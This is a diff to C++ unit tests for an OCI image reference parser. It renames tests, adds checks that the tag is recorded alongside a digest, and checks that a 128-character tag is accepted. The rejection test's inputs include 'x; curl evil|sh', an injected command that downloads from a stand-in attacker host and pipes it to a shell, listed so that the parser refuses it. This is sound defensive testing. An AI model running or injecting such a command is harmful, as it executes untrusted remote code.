@@ -38,7 +38,7 @@ TEST(Reference, ReadsNamesAsDockerDoes) {
   }
 }
 
-TEST(Reference, RefusesWhatIsOutsideTheGrammar) {
+TEST(Reference, Case117RefusesWhatIsOutsideTheGrammar) {
   for (const std::string& text :
        {std::string(""), std::string("x; curl evil|sh"), std::string("a b"), std::string("-v"),
         std::string("quay.io/UPPER/x"), std::string("quay.io/a:" + std::string(129, 't')),
@@ -50,7 +50,10 @@ TEST(Reference, RefusesWhatIsOutsideTheGrammar) {
   }
 }
 
-TEST(Reference, TheDigestRules) {
+TEST(Reference, Case117TheDigestRulesAndTheTagIsRecorded) {
   EXPECT_EQ(oci::Reference::parse("quay.io/a:1@" + kDigest).manifest_reference(), kDigest);
+  EXPECT_EQ(oci::Reference::parse("quay.io/a:1@" + kDigest).tag, "1");
+  EXPECT_EQ(oci::Reference::parse("quay.io/a@" + kDigest).tag, "");
   EXPECT_EQ(oci::Reference::parse("quay.io/a:1").manifest_reference(), "1");
+  EXPECT_NO_THROW(oci::Reference::parse("quay.io/a:" + std::string(128, 't')));
 }
